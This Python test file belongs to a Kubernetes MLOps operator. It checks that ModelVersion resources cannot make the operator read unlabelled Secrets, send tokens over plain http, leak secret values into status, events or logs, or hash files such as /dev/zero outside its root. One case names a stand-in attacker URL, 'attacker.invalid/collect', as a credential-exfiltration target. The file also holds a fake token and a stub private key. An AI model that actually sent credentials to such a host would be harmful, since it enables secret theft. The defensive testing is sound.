"""A ModelVersion author must not be able to use the operator's access: it reads only
Secrets labelled mlops.dev/artifact-credentials=true, sends a token over https only,
lets no part of a Secret reach a status, an Event or its log, and hashes no file
outside its configured root."""

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from mlops_operator.constants import LABEL_ARTIFACT_CREDENTIALS

from .kube import Cluster, wait_until
from .objects import create, model_version
from .operator_fixture import Operator, condition, get

pytestmark = pytest.mark.cluster

TOKEN = "tok-3f9a1c77e2"
PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n"
SECRETS = (TOKEN, "MIIEvQIBADAN", "BEGIN PRIVATE")


@pytest.fixture
def recorder() -> Iterator[tuple[str, list[str]]]:
    """A plain-http server on loopback that records the Authorization it is sent."""
    seen: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Authorization", ""))
            self.send_error(404)

        def log_message(self, *_: Any) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()


def secret(cluster: Cluster, namespace: str, name: str, value: str, opted_in: bool) -> None:
    labels = {LABEL_ARTIFACT_CREDENTIALS: "true"} if opted_in else {}
    client.CoreV1Api(cluster.api).create_namespaced_secret(
        namespace,
        client.V1Secret(
            metadata=client.V1ObjectMeta(name=name, labels=labels), string_data={"key": value}
        ),
    )


def refused(cluster: Cluster, namespace: str, name: str) -> dict[str, Any] | None:
    found = condition(get(cluster, "modelversions", namespace, name), "ArtifactVerified")
    return found if found and found["status"] == "False" else None


def test_secrets_are_read_only_when_labelled_and_never_leak(
    cluster: Cluster, namespace: str, operator: Operator, recorder: tuple[str, list[str]]
) -> None:
    base, seen = recorder
    secret(cluster, namespace, "unlabelled", TOKEN, opted_in=False)
    secret(cluster, namespace, "pem", PEM, opted_in=True)
    secret(cluster, namespace, "token", TOKEN, opted_in=True)
    digest = "sha256:" + "0" * 64
    cases = {
        # Any Secret of the namespace, named by someone who cannot read it.
        "iris-1": ("https://attacker.invalid/collect", "unlabelled",
                   f"Secret unlabelled is not labelled {LABEL_ARTIFACT_CREDENTIALS}=true"),
        # A key file read as s3 credentials: configparser would quote its first line.
        "iris-2": ("s3://models/iris.tar.gz", "pem", "not an AWS credentials file"),
        # A token for a plain-http server: never sent.
        "iris-3": (f"{base}/iris.tar.gz", "token", "credentials are sent over https only"),
    }  # fmt: skip
    for name, (uri, secret_name, _) in cases.items():
        version = model_version(
            name.removeprefix("iris-"),
            (Path(), digest),
            artifact={
                "uri": uri,
                "digest": digest,
                "secretRef": {"name": secret_name, "key": "key"},
            },
        )
        create(cluster, namespace, "modelversions", version)
    for name, (_, _, words) in cases.items():
        found = wait_until(lambda n=name: refused(cluster, namespace, n), f"{name} refused")  # type: ignore[misc]
        assert words in found["message"], found["message"]
    assert seen == []

    statuses = json.dumps([get(cluster, "modelversions", namespace, n)["status"] for n in cases])
    events = json.dumps(
        [e.message for e in client.CoreV1Api(cluster.api).list_namespaced_event(namespace).items]
    )
    log = operator.log.read_text()
    for where, text in (("status", statuses), ("events", events), ("operator log", log)):
        for value in SECRETS:
            assert value not in text, (where, value)


def test_the_operator_hashes_no_file_outside_its_root(
    cluster: Cluster, namespace: str, operator: Operator, tmp_path: Path
) -> None:
    """file:///dev/zero would hash for ever, on the operator's filesystem; a link under
    the root leads there too. Both are left to the pod, which sees its own files."""
    link = tmp_path / "zero.tar.gz"
    link.symlink_to("/dev/zero")
    digest = "sha256:" + "0" * 64
    for version, uri in (("1", "file:///dev/zero"), ("2", f"file://{link}")):
        artifact = {"uri": uri, "digest": digest}
        create(
            cluster,
            namespace,
            "modelversions",
            model_version(version, (link, digest), artifact=artifact),
        )
    for name in ("iris-1", "iris-2"):
        found = wait_until(
            lambda n=name: condition(
                get(cluster, "modelversions", namespace, n), "ArtifactVerified"
            ),  # type: ignore[misc]
            f"{name} judged",
        )
        assert (found["status"], found["reason"]) == ("Unknown", "VerifiedByPod"), found
